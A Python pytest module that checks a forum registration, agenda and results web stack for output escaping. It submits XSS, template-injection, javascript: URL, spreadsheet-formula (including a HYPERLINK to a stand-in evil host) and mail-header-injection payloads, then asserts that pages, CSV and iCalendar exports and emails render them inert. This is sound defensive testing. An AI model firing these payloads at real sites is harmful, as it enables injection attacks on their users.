"""Output escaping everywhere: HTML, script and template payloads in every free-text field come back inert.

The payloads go in through the public API and form (registration), the staff APIs of results
(ideas, sketches) and agenda (items), and notify's webhook registry. Every page, export and mail
that shows them must show them escaped (`&lt;script&gt;`), never as live markup, never as a
`javascript:` link, and `{{7*7}}` never as 49.
"""

from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import datetime, timedelta
from typing import Any
from urllib.parse import urlparse

import httpx
import pytest

from shared.testing import eventually
from tests.conftest import person

FORUM = "themenforum-2"
TAG = uuid.uuid4().hex[:6]
SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
TEMPLATE = "{{7*7}}"
JS_URL = "javascript:alert(1)"
ESCAPED_SCRIPT = "&lt;script&gt;alert(1)&lt;/script&gt;"


def payload(field: str) -> str:
    """One value carrying every payload, findable by its marker `X<tag><field>`."""
    return f"X{TAG}{field}{SCRIPT}{IMG}T{TAG}{TEMPLATE}"


def marker(field: str) -> str:
    return f"X{TAG}{field}"


LIVE = [
    re.compile(r"<script>alert\(1\)</script>", re.I),
    re.compile(r"<img src=x onerror=alert\(1\)>", re.I),
    re.compile(r"""(?:href|src|action|formaction|data)\s*=\s*["']?\s*javascript:""", re.I),
]


def assert_inert(text: str, where: str, *, shows: tuple[str, ...] = ()) -> None:
    """No live payload in `text`; each field in `shows` appears escaped (so the check cannot pass vacuously)."""
    for pattern in LIVE:
        match = pattern.search(text)
        assert match is None, f"{where}: live payload {match.group(0)!r} near {text[max(0, match.start() - 120):match.end() + 40]!r}"
    assert f"T{TAG}49" not in text, f"{where}: {{{{7*7}}}} was evaluated as a template"
    for field in shows:
        assert marker(field) in text, f"{where}: {field} is not shown (cannot judge its escaping)"
        at = text.index(marker(field))
        assert ESCAPED_SCRIPT in text[at:at + 300] or "&lt;script&gt;" in text[at:at + 300], \
            f"{where}: {field} not escaped: {text[at:at + 200]!r}"


def assert_download(answer: httpx.Response, where: str, media_type: str) -> str:
    """A download is served as what it is (never sniffed as HTML) and no template was evaluated in it."""
    assert answer.status_code == 200, f"{where}: {answer.status_code}"
    assert answer.headers["content-type"].startswith(media_type), f"{where}: {answer.headers['content-type']}"
    assert answer.headers.get("x-content-type-options") == "nosniff", f"{where}: may be sniffed as HTML"
    assert f"T{TAG}49" not in answer.text, f"{where}: {{{{7*7}}}} was evaluated as a template"
    return answer.text


def page(client: httpx.Client, url: str, where: str, *, shows: tuple[str, ...] = (), status: int = 200) -> str:
    answer = client.get(url)
    assert answer.status_code == status, f"{where}: {answer.status_code} {answer.text[:300]}"
    assert_inert(answer.text, where, shows=shows)
    return answer.text


@pytest.fixture(scope="module")
def staff(stack: Any) -> Any:
    """An httpx client logged in as staff (the session cookie serves every service)."""
    with httpx.Client(timeout=60) as client:
        stack.staff_session(client)
        yield client


REG_FIELDS = ("first_name", "last_name", "organisation", "role", "motivation")


@pytest.fixture(scope="module")
def registered(stack: Any, http: httpx.Client) -> dict[str, Any]:
    """One registration through the JSON API with a payload in every free-text field; its decision."""
    body = person(**{f: payload(f) for f in REG_FIELDS})
    answer = http.post(stack.url("registration", "/api/v1/registrations"), json=body)
    assert answer.status_code == 202, answer.text
    reg = answer.json()
    status = eventually(lambda: (s := http.get(reg["status_url"]).json())["status"] != "received" and s, timeout=60)
    return {"body": body, "reg": reg, "status": status}


def test_registration_payloads_are_inert_on_every_page(stack: Any, http: httpx.Client, staff: httpx.Client,
                                                      registered: dict[str, Any]) -> None:
    reg = registered["reg"]
    assert_inert(http.get(reg["status_url"]).text, "status API")
    page(http, reg["status_page_url"], "status page")
    # The staff console lists every registration with name and organisation.
    page(staff, stack.url("registration", f"/staff/fora/{FORUM}"), "selection console",
         shows=("first_name", "last_name", "organisation"))


def test_registration_form_escapes_what_it_echoes(stack: Any) -> None:
    """The public form re-renders refused input in attributes and a textarea: escaped, and a valid one registers."""
    with httpx.Client(timeout=30) as client:
        form = client.get(stack.url("registration", "/"))
        csrf = re.search(r'name="csrf_token" value="([^"]+)"', form.text).group(1)
        base = person()
        values = {"csrf_token": csrf, "forum_id": FORUM, "language": "de", "email": "not-an-address",
                  "actor_group": base["actor_group"], "municipality": base["municipality"],
                  "preference_1": base["preferences"][0], "consent": "true",
                  **{f: payload(f) for f in REG_FIELDS}}
        refused = client.post(stack.url("registration", "/"), data=values)
        assert refused.status_code == 422, refused.text[:500]
        assert_inert(refused.text, "form with errors", shows=REG_FIELDS)
        # Escaped inside value="…": the quote of the payload may not end the attribute.
        assert f'value="{marker("first_name")}&lt;script&gt;' in refused.text or \
            f'value="{marker("first_name")}&lt;' in refused.text, "first_name echoed unescaped in its attribute"
        accepted = client.post(stack.url("registration", "/"), data={**values, "email": base["email"]})
        assert accepted.status_code == 202, accepted.text[:500]
        assert_inert(accepted.text, "form confirmation")


def test_participant_export_neutralises_formulas(stack: Any, http: httpx.Client, registered: dict[str, Any]) -> None:
    """A name starting with = + - @ is not exported as a spreadsheet formula (CSV injection)."""
    body = person(first_name='=HYPERLINK("http://evil.example/"&A1,"x")', last_name=f"+Formel-{TAG}",
                  organisation="@SUM(1+1)")
    assert http.post(stack.url("registration", "/api/v1/registrations"), json=body).status_code == 202
    export = stack.url("registration", f"/api/v1/fora/{FORUM}/participants.csv")
    eventually(lambda: body["email"] in http.get(export, headers=stack.auth).text)
    text = assert_download(http.get(export, headers=stack.auth), "participants.csv", "text/csv")
    assert marker("first_name") in text  # the payload registration is exported too, as plain text
    row = next(r for r in csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=";") if r["email"] == body["email"])
    for field in ("first_name", "last_name", "organisation"):
        assert not row[field].startswith(("=", "+", "-", "@")), f"participants.csv {field} is a formula: {row[field]!r}"


def _agenda_item(stack: Any, http: httpx.Client, workshop_id: str) -> dict[str, Any]:
    draft = http.get(stack.url("agenda", f"/api/v1/fora/{FORUM}/agenda/draft"), headers=stack.auth).json()
    last = max(datetime.fromisoformat(i["ends_at"]) for i in draft["items"])
    start = last - timedelta(minutes=10)
    item = {"workshop_id": workshop_id, "starts_at": start.isoformat(), "ends_at": last.isoformat(),
            "title": payload("title"), "kind": "discussion", "room": None,
            "moderators": [payload("moderator")[:100]], "description": payload("description")}
    answer = http.post(stack.url("agenda", f"/api/v1/fora/{FORUM}/agenda/items"), json=item, headers=stack.auth)
    assert answer.status_code == 201, answer.text
    return answer.json()["item"]


def _publish(stack: Any, http: httpx.Client) -> None:
    answer = http.post(stack.url("agenda", f"/api/v1/fora/{FORUM}/agenda/publish"), headers=stack.auth)
    assert answer.status_code == 200, answer.text


def test_agenda_payloads_are_inert_in_editor_public_pages_report_and_mails(
        stack: Any, http: httpx.Client, staff: httpx.Client, registered: dict[str, Any]) -> None:
    status = registered["status"]
    workshop_id = status.get("workshop_id") or "tf2-ws3"
    item = _agenda_item(stack, http, workshop_id)
    try:
        page(staff, stack.url("agenda", f"/staff/agenda/{FORUM}"), "agenda editor", shows=("title",))
        page(staff, stack.url("agenda", f"/staff/agenda/{FORUM}?edit={item['item_id']}"), "agenda editor (edit form)",
             shows=("title", "description"))
        page(staff, stack.url("agenda", f"/staff/agenda/{FORUM}/publish"), "agenda publish preview", shows=("title",))
        _publish(stack, http)
        eventually(lambda: marker("title") in http.get(stack.url("agenda", f"/api/v1/workshops/{workshop_id}/agenda")).text)
        page(http, stack.url("agenda", f"/workshops/{workshop_id}"), "public agenda", shows=("title",))
        page(http, stack.url("agenda", f"/workshops/{workshop_id}/print"), "printable agenda", shows=("title",))
        page(http, stack.url("agenda", "/"), "agenda index")
        ics = http.get(stack.url("agenda", f"/api/v1/workshops/{workshop_id}/agenda.ics")).text
        assert marker("title") in ics.replace("\r\n ", "")
        assert not re.search(r"^(?:ATTENDEE|ORGANIZER|BEGIN:VALARM)", ics, re.M), "payload broke out of an iCalendar line"
        eventually(lambda: marker("title") in http.get(stack.url("results", f"/berichte/{FORUM}")).text, timeout=60)
        page(http, stack.url("results", f"/berichte/{FORUM}"), "results report (agenda)", shows=("title",))
        if status["status"] == "accepted":
            email = registered["body"]["email"]
            mails = eventually(lambda: [m for m in stack.mails(to=email) if marker("title") in _html(m)], timeout=60)
            for mail in mails:
                assert_inert(_html(mail), f"agenda mail {mail['Subject']}", shows=("title",))
                assert f"T{TAG}49" not in _text(mail)
    finally:
        http.delete(stack.url("agenda", f"/api/v1/fora/{FORUM}/agenda/items/{item['item_id']}"), headers=stack.auth)
        _publish(stack, http)


def _html(mail: Any) -> str:
    part = mail.get_body(("html",))
    return part.get_content() if part is not None else ""


def _text(mail: Any) -> str:
    part = mail.get_body(("plain",))
    return part.get_content() if part is not None else ""


def test_registration_payloads_are_inert_in_mails(stack: Any, registered: dict[str, Any]) -> None:
    email = registered["body"]["email"]
    personal = ("acknowledgement", "accepted", "waitlisted", "rejected")
    eventually(lambda: len([m for m in stack.mails(to=email) if m["X-Themenforum-Template"] in personal]) >= 2, timeout=60)
    for mail in stack.mails(to=email):
        html = _html(mail)
        assert html, f"{mail['Subject']}: no HTML part"
        greets = mail["X-Themenforum-Template"] in personal  # these address the person by name
        assert_inert(html, f"mail {mail['Subject']}", shows=("first_name", "last_name") if greets else ())
        assert f"T{TAG}49" not in _text(mail), f"{mail['Subject']}: text part evaluated {{{{7*7}}}}"
        assert "\n" not in str(mail["Subject"]) and "\n" not in str(mail["To"])


def test_line_breaks_in_names_do_not_reach_mail_headers(stack: Any, http: httpx.Client) -> None:
    body = person(first_name="Ada\r\nBcc: evil@example.org", last_name=f"Kopf-{TAG}\nX-Injected: 1")
    answer = http.post(stack.url("registration", "/api/v1/registrations"), json=body)
    if answer.status_code == 422:
        return  # refused at intake: nothing can reach a header
    assert answer.status_code == 202, answer.text
    mails = eventually(lambda: stack.mails(to=body["email"]), timeout=60)
    for mail in mails:
        assert mail["Bcc"] is None and mail["X-Injected"] is None, f"header injected into {mail['Subject']}"
        assert "evil@example.org" not in str(mail["To"]) + str(mail["Subject"])
        assert_inert(_html(mail), f"mail {mail['Subject']}")


def _open_workshop(stack: Any, http: httpx.Client, preferred: str) -> str:
    """A workshop whose results are still a draft (a finalized one shows its frozen version and closes voting)."""
    for workshop_id in (preferred, "tf2-ws3", "tf2-ws2", "tf2-ws1"):
        state = http.get(stack.url("results", f"/api/v1/workshops/{workshop_id}/results"), headers=stack.auth).json()["state"]
        if not state.get("voting_closed") and not state.get("finalized_version"):
            return workshop_id
    pytest.fail("every workshop's results are finalized; no draft to capture payloads into")


IDEA_FIELDS = ("idea_title", "idea_text", "cluster")
SKETCH_FIELDS = ("sketch_title", "problem", "goal", "timeline", "next_steps")


def test_results_payloads_are_inert_in_moderation_report_ballot_and_dashboard(
        stack: Any, http: httpx.Client, staff: httpx.Client, registered: dict[str, Any]) -> None:
    workshop_id = _open_workshop(stack, http, registered["status"].get("workshop_id") or "tf2-ws3")
    idea = http.post(stack.url("results", f"/api/v1/workshops/{workshop_id}/ideas"), headers=stack.auth, json={
        "title": payload("idea_title")[:200], "text": payload("idea_text"), "cluster": payload("cluster")[:100],
        "tags": [payload("tag")[:50]], "request_id": f"xss-{TAG}"})
    assert idea.status_code in (200, 201), idea.text
    sketch = http.post(stack.url("results", f"/api/v1/workshops/{workshop_id}/sketches"), headers=stack.auth, json={
        "title": payload("sketch_title"), "problem": payload("problem"), "goal": payload("goal"),
        "timeline": payload("timeline"), "next_steps": payload("next_steps"), "contact": JS_URL,
        "funding_instruments": [payload("instrument")[:100]], "idea_ids": [idea.json()["idea_id"]],
        "request_id": f"xss-{TAG}"})
    assert sketch.status_code in (200, 201), sketch.text

    page(staff, stack.url("results", f"/moderation/{workshop_id}"), "moderation page",
         shows=("idea_title", "cluster", "sketch_title"))
    sketch_id = sketch.json()["sketch_id"]
    page(staff, stack.url("results", f"/moderation/{workshop_id}?skizze={sketch_id}"), "moderation page (edit sketch)",
         shows=("sketch_title", "problem"))
    report = eventually(lambda: (t := http.get(stack.url("results", f"/berichte/{FORUM}")).text)
                        and marker("sketch_title") in t and t, timeout=60)
    assert_inert(report, "results report", shows=IDEA_FIELDS + SKETCH_FIELDS)
    page(http, stack.url("results", "/berichte"), "report index")
    page(staff, stack.url("results", f"/dashboard?forum={FORUM}"), "dashboard page")
    page(staff, stack.url("results", "/moderation"), "moderation index")
    page(staff, stack.url("results", f"/moderation/{workshop_id}/stimmkarten"), "voting cards")
    links = http.get(stack.url("results", f"/api/v1/workshops/{workshop_id}/voting-links"), headers=stack.auth).json()
    if links:
        token = urlparse(links[0]["url"]).path.rsplit("/", 1)[-1]
        page(http, stack.url("results", f"/abstimmung/{token}"), "ballot page", shows=("sketch_title",))
    text = assert_download(http.get(stack.url("results", f"/api/v1/reports/{FORUM}.csv")), "report CSV", "text/csv")
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"):
        assert not any(cell.startswith(("=", "+", "@")) for cell in row), f"report CSV: formula cell in {row}"


def test_webhook_description_is_inert_on_the_staff_page(stack: Any, http: httpx.Client, staff: httpx.Client) -> None:
    created = http.post(stack.url("notify", "/api/v1/webhooks"), headers=stack.auth, json={
        "url": "http://127.0.0.1:9/hook", "event_types": ["forum.registration_closed"], "description": payload("hook")[:200]})
    assert created.status_code == 201, created.text
    try:
        page(staff, stack.url("notify", "/staff/webhooks"), "webhooks page")
        page(staff, stack.url("notify", "/staff/deliveries"), "deliveries page")
    finally:
        http.delete(stack.url("notify", f"/api/v1/webhooks/{created.json()['id']}"), headers=stack.auth)
